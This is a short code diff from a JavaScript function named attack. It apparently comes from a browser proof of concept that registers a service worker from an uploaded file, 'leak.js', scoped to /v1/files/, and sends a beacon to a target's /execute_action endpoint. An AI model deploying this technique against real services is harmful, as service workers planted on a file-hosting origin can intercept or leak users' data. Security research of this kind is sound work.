@@ -98,7 +98,10 @@ async function attack(target, marker) {
             ])));
             notice("worker", await new Promise((resolve) => (worker.onmessage = (event) => resolve(event.data))));
         })(),
-        navigator.serviceWorker?.register(file("leak.js"), { scope: "/v1/files/" }).then(() => notice("service worker of a file", "registered")),
+        (async () => {
+            await navigator.serviceWorker.register(file("leak.js"), { scope: "/v1/files/" });
+            notice("service worker of a file", "registered");
+        })(),
     ];
     navigator.sendBeacon(`${target}/execute_action`, action);
     await Promise.all(tries.map(within));
